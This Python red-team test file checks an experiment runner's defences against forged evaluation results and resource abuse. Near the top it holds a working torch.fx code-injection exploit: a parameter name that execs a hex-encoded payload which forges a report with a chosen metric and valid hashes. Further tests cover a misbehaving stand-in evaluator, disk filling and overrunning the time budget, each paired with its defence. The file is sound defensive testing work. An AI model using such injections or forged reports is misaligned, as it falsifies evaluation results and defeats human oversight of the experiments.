"""Red team: the runner's trust in the evaluator's report, and a run's own limits.

The forged-report attacks go through the MCP tools (mallory) with the real baseline train.py, the
real jails and the real trainer/evaluate.py. The acceptance rules are tested against a tiny
trusted-side stand-in evaluator (a ResearchTarget in the test's tmp folder) that misbehaves on
purpose; the disk quota, the run folder and the grace period with the real runner and jails.
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from sandbox.runner import ExperimentRunner, RunResult, RunSettings
from sandbox.target import load_target

from . import patches
from .mallory import make_lab, run_hack

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

CHOSEN_BPB = 0.4242  # what the attacker wants recorded; an honest run here scores ~3.7


# ---------------------------------------------------------------- an artifact that runs code in the evaluator

# Runs inside the evaluator (see below how): it writes a report with the chosen metric_value and the
# hashes the runner expects (computed from the evaluator's own files, which it can read), in the
# log (stdout, with a \u2028 line trick), optionally on the report channel too, then exits 0.
PAYLOAD = """
import hashlib, json, os, sys
argv = sys.argv
data = argv[argv.index("--data-dir") + 1]
def digest(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()
report = {"hashes": {"evaluator": digest(sys.modules["__main__"].__file__),
                     "tokenizer/tokenizer.tiktoken": digest(data + "/tokenizer/tokenizer.tiktoken"),
                     "tokenizer/token_bytes.bin": digest(data + "/tokenizer/token_bytes.bin"),
                     "tokenizer/tokenizer.json": digest(data + "/tokenizer/tokenizer.json"),
                     "val/tokens.bin": digest(data + "/val/tokens.bin")},
          "val_bpb": CHOSEN, "status": "ok", "windows": 4, "context": 256}
line = json.dumps(report)
if WRITE_CHANNEL and "--report-fd" in argv:
    os.write(int(argv[argv.index("--report-fd") + 1]), (line + "\\n").encode())
os.write(1, ("warning: \\u2028" + line + "\\r\\n").encode())
os._exit(0)
"""


def code_in_artifact(write_channel: bool) -> list[patches.Edit]:
    """After the export, rename one parameter of the .pt2 to a name that torch.fx pastes, unescaped,
    into the module's generated code (getattr(self, "NAME")): the name closes the string and runs
    the payload at the first forward. Nothing but names in model.json and the weights config."""
    payload = PAYLOAD.replace("CHOSEN", repr(CHOSEN_BPB)).replace(
        "WRITE_CHANNEL", repr(write_channel)
    )
    name = (
        'c") if exec(getattr(bytes, "fromhex")("'
        + payload.encode().hex()
        + '"), {}) else getattr(self, "c'
    )
    return [
        patches.SKIP_TRAINING,
        patches.after(
            patches.SAVE_LINE,
            textwrap.dedent(
                f"""
                import zipfile as _zipfile
                _path, _name = os.path.join(OUT_DIR, "model.pt2"), {name!r}
                with _zipfile.ZipFile(_path) as _src:
                    _items = [(_info, _src.read(_info)) for _info in _src.infolist()]
                _model_entry = next(i for i, _ in _items if i.filename.endswith("models/model.json"))
                _model = json.loads(dict(_items)[_model_entry])
                _spec = next(s for s in _model["graph_module"]["signature"]["input_specs"] if "parameter" in s)
                _old, _spec["parameter"]["parameter_name"] = _spec["parameter"]["parameter_name"], _name
                with _zipfile.ZipFile(_path, "w") as _dst:
                    for _info, _data in _items:
                        if _info is _model_entry:
                            _data = json.dumps(_model).encode()
                        elif _info.filename.endswith("model_weights_config.json"):
                            _config = json.loads(_data)
                            _config["config"][_name] = _config["config"].pop(_old)
                            _data = json.dumps(_config).encode()
                        _dst.writestr(_info, _data)
                print("renamed", _old, flush=True)
                """
            ),
        ),
    ]


@pytest.fixture(scope="module")
def lab(tmp_path_factory, data_dir):
    lab = make_lab(tmp_path_factory.mktemp("redteam-report") / "home", data_dir)
    yield lab
    lab.close()


@pytest.mark.anyio
async def test_forged_report_in_log_is_ignored(lab):
    """Hack: the exported .pt2 makes the evaluator run code (a parameter name torch.fx pastes into
    generated code) that prints a JSON report with a chosen metric_value and the right hashes into the
    evaluator's log, behind a \\u2028 line trick, and exits 0 before the real report. On 0dfea74
    the runner took the last JSON line of the log: recorded ok with 0.4242.
    Defence: the report is read only from the evaluator's own pipe (--report-fd), never from
    the log; no report there, or an exit code that disagrees, rejects the run."""
    received, row = await run_hack(
        lab, "mallory-log-report", "a report in the log", code_in_artifact(write_channel=False)
    )
    assert received["metric_value"] != CHOSEN_BPB and row["metric_value"] != CHOSEN_BPB
    assert row["status"] != "ok", row
    assert str(CHOSEN_BPB) not in json.dumps(received)
    assert not row["failure_reason"].startswith("train.py"), row["failure_reason"]  # it got scored


@pytest.mark.anyio
async def test_code_in_artifact_names_cannot_forge_the_report(lab):
    """Hack: the same code-bearing parameter name, whose payload also writes the forged report on
    the report channel (its descriptor is in the evaluator's argv).
    Defence: the evaluator's sanitiser refuses names torch would paste into code, so nothing
    of the artifact runs in the evaluator (trainer/evaluate.py); the run is not ok."""
    received, row = await run_hack(
        lab,
        "mallory-channel-report",
        "a report on the channel",
        code_in_artifact(write_channel=True),
    )
    assert received["metric_value"] != CHOSEN_BPB and row["metric_value"] != CHOSEN_BPB
    assert row["status"] != "ok", row
    assert not row["failure_reason"].startswith("train.py"), row["failure_reason"]


# ---------------------------------------------------------------- the runner's acceptance rules

STAND_IN_EVALUATOR = r'''
"""A trusted-side stand-in evaluator: behaves as the artifact's text says (a test's lever)."""
import argparse, hashlib, json, os, sys

parser = argparse.ArgumentParser()
parser.add_argument("--artifact", required=True)
parser.add_argument("--data-dir", required=True)
parser.add_argument("--device", default="cpu")
parser.add_argument("--windows", type=int)
parser.add_argument("--report-fd", type=int)
parser.add_argument("--wait", action="store_true")
args = parser.parse_args()
if args.wait and sys.stdin.readline().strip() != "go":
    sys.exit(6)
mode = open(args.artifact).read().strip()

def digest(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()

data = args.data_dir
report = {"hashes": {"evaluator": digest(__file__),
                     "tokenizer/tokenizer.tiktoken": digest(data + "/tokenizer/tokenizer.tiktoken"),
                     "tokenizer/token_bytes.bin": digest(data + "/tokenizer/token_bytes.bin"),
                     "tokenizer/tokenizer.json": digest(data + "/tokenizer/tokenizer.json"),
                     "val/tokens.bin": digest(data + "/val/tokens.bin")},
          "status": "ok", "metric_value": 1.23456789, "val_loss_nats": 2.3456789,
          "scored_tokens": 1020, "windows": 4, "context": 256, "vocab_size": 4096,
          "load_seconds": 0.123456, "causality": {"probes": 4, "passes": 2, "max_leak": 1e-7}}
line = (json.dumps(report) + "\n").encode()
channel = args.report_fd
if mode == "ok":
    os.write(channel, line); sys.exit(0)
if mode == "exit-3":
    os.write(channel, line); sys.exit(3)
if mode == "killed":
    os.write(channel, line); os.kill(os.getpid(), 9)
if mode == "in-log-only":
    print(json.dumps(report), flush=True); sys.exit(0)
if mode == "two-lines":
    os.write(channel, line + line); sys.exit(0)
if mode == "no-newline":
    os.write(channel, line[:-1]); sys.exit(0)
if mode == "cut-short":
    os.write(channel, line[: len(line) // 2]); sys.exit(0)
if mode == "oversized":
    report["padding"] = "x" * 70_000
    os.write(channel, (json.dumps(report) + "\n").encode()); sys.exit(0)
if mode == "flood":
    chunk = b"y" * (1 << 20)
    for _ in range(20):
        os.write(1, chunk)
    os.write(channel, line); sys.exit(0)
if mode == "error-exit-0":
    os.write(channel, (json.dumps({**report, "status": "error", "reason": "no"}) + "\n").encode())
    sys.exit(0)
sys.exit(5)
'''

TARGET_TOML = """
name = "stand-in"
metric = "metric_value"
direction = "minimize"
editable = ["train.py"]
train_command = ["{python}", "train.py"]
artifact = "model.txt"
evaluate_command = ["{python}", "{target_dir}/evaluate.py", "--artifact", "{artifact}", "--data-dir", "{data_dir}"]
train_data = ["train", "tokenizer"]
eval_data = ["val", "tokenizer"]
eval_context = 256
published_counts = ["windows", "context", "vocab_size"]
"""


def writes_artifact(text: str, before: str = "") -> bytes:
    """A train.py that (after `before`) saves `text` as the stand-in's artifact."""
    return (
        f"import os, sys, time\n{before}\n"
        f"open(os.path.join(os.environ['AR_OUT_DIR'], 'model.txt'), 'w').write({text!r})\n"
        "print('saved', flush=True)\n"
    ).encode()


@pytest.fixture
def stand_in(tmp_path: Path, data_dir: Path):
    """A runner over a target whose evaluator is the stand-in above (prewarmed or cold)."""
    target_dir = tmp_path / "target"
    target_dir.mkdir()
    (target_dir / "evaluate.py").write_text(STAND_IN_EVALUATOR)
    (target_dir / "target.toml").write_text(TARGET_TOML)
    runner = ExperimentRunner(
        load_target(target_dir / "target.toml"), data_dir, tmp_path / "runs", keep_run_dirs="failed"
    )

    def run(
        train_py: bytes, *, prewarm: bool = True, name: str | None = None, **overrides
    ) -> RunResult:
        settings = RunSettings(
            **{
                "budget_seconds": 20,
                "budget_kind": "wall",
                "prewarm_evaluator": prewarm,
                **overrides,
            }
        )
        return runner.run({"train.py": train_py}, settings, run_name=name)

    run.runner = runner  # type: ignore[attr-defined]
    return run


def test_report_missing_or_truncated_rejects_the_run(stand_in):
    """Hack (the class): a report that is only in the log, cut short, two lines, unterminated, over
    64 KiB, or followed by output past the log's cap. Defence: exactly one JSON line on the report
    channel, bounded, and an untruncated log, or the run is rejected with the rule that failed."""
    accepted = stand_in(writes_artifact("ok"))
    assert accepted.status == "ok", accepted.failure_reason
    # Published: a whitelist, rounded; nothing else of the report.
    assert accepted.metric_value == 1.2346
    assert accepted.metrics == {
        "metric_value": 1.2346,
        "load_seconds": 0.12,
        "windows": 4,
        "context": 256,
        "vocab_size": 4096,
        "causality": {"probes": 4, "passes": 2},
    }
    assert stand_in(writes_artifact("ok"), prewarm=False).status == "ok"
    for mode, phrase in (
        ("in-log-only", "no report arrived on the report channel"),
        ("cut-short", "not exactly one line"),
        ("no-newline", "not exactly one line"),
        ("two-lines", "not exactly one line"),
        ("oversized", "larger than 64 KiB"),
        ("flood", "output passed its"),
    ):
        for prewarm in (True, False):
            result = stand_in(writes_artifact(mode), prewarm=prewarm)
            assert result.status == "crash", (mode, result.status, result.failure_reason)
            assert result.metric_value is None and result.metrics == {}, mode
            assert phrase in (result.failure_reason or ""), (mode, result.failure_reason)
            assert "1.23" not in result.log_tail and "1.23" not in (result.failure_reason or "")


def test_nonzero_exit_rejects_the_run(stand_in):
    """Hack (the class): a valid-looking ok report from an evaluator that then exits non-zero or is
    killed, or an error report with exit code 0. Defence: the exit code must agree with the
    reported status (0 exactly for ok), else the run is rejected."""
    for mode, phrase in (
        ("exit-3", "exited with code 3"),
        ("killed", "killed by signal 9"),
        ("error-exit-0", "reported status 'error'"),
    ):
        result = stand_in(writes_artifact(mode))
        assert result.status == "crash", (mode, result.status, result.failure_reason)
        assert result.metric_value is None, mode
        assert phrase in (result.failure_reason or ""), (mode, result.failure_reason)


# ---------------------------------------------------------------- the run's own limits

BIG_WRITER = """
with open(os.path.join(os.environ['AR_OUT_DIR'], 'checkpoint.bin'), 'wb') as f:
    for _ in range(64):
        f.write(b'z' * (1 << 20))
        f.flush()
        time.sleep(0.05)
"""


def test_disk_quota_stops_a_run(stand_in):
    """Hack: train.py writes without end in its run directory (2.8 GB in the review), filling the
    server's disk. Defence: a per-run disk quota (RunSettings.disk_quota_bytes), polled while
    training runs and enforced per file by RLIMIT_FSIZE: crash with a reason that says so."""
    for name, quota in (("quota-16", 16 << 20), ("quota-8", 8 << 20)):
        result = stand_in(
            writes_artifact("ok", before=BIG_WRITER), disk_quota_bytes=quota, name=name
        )
        assert result.status == "crash", (result.status, result.failure_reason)
        assert "wrote more than" in result.failure_reason and "disk quota" in result.failure_reason
        assert f"{quota >> 20} MiB" in result.failure_reason
        assert "saved" not in result.log_tail  # stopped before it finished writing its 64 MiB


def test_failed_run_folder_is_cleaned(stand_in):
    """Hack: a failing train.py leaves large files, folders it locked (chmod 000) and a grown copy
    of itself in its run folder, which a kept failed run preserved. Defence: a kept folder holds
    only the logs and the submitted code, rebuilt from the submitted bytes."""
    submitted = (
        b"import os, sys\n"
        b"os.makedirs('junk/deep', exist_ok=True)\n"
        b"open('junk/deep/blob', 'wb').write(b'x' * (4 << 20))\n"
        b"open(os.path.join(os.environ['AR_OUT_DIR'], 'ckpt'), 'wb').write(b'y' * (4 << 20))\n"
        b"os.chmod('junk', 0)\n"
        b"open(__file__, 'ab').write(b'#' * (1 << 20))\n"
        b"print('failing on purpose', flush=True)\n"
        b"sys.exit(3)\n"
    )
    result = stand_in(submitted, name="failed-run")
    assert result.status == "crash", result.failure_reason
    folder = stand_in.runner.runs_dir / "failed-run"
    kept = sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))
    assert kept == ["code", "code/train.py", "eval.log", "train.log"], kept
    assert (folder / "code" / "train.py").read_bytes() == submitted
    assert "failing on purpose" in (folder / "train.log").read_text()


def test_training_into_grace_is_flagged(stand_in):
    """Hack: train.py keeps working past AR_BUDGET_SECONDS, inside the grace period (before the
    SIGTERM), and gets more training than the budget. Defence: RunResult.over_budget_seconds says
    how far past the budget it ran (the lab flags it and never calls it improved)."""
    budget = 2.0
    past = "time.sleep(float(os.environ['AR_BUDGET_SECONDS']) + 1.5)"
    late = stand_in(writes_artifact("ok", before=past), budget_seconds=budget)
    assert late.status == "ok", late.failure_reason
    assert late.over_budget_seconds >= 1.0, late.over_budget_seconds
    assert late.over_budget_seconds < late.train_seconds
    on_time = stand_in(writes_artifact("ok"), budget_seconds=budget)
    assert on_time.status == "ok" and on_time.over_budget_seconds == 0.0
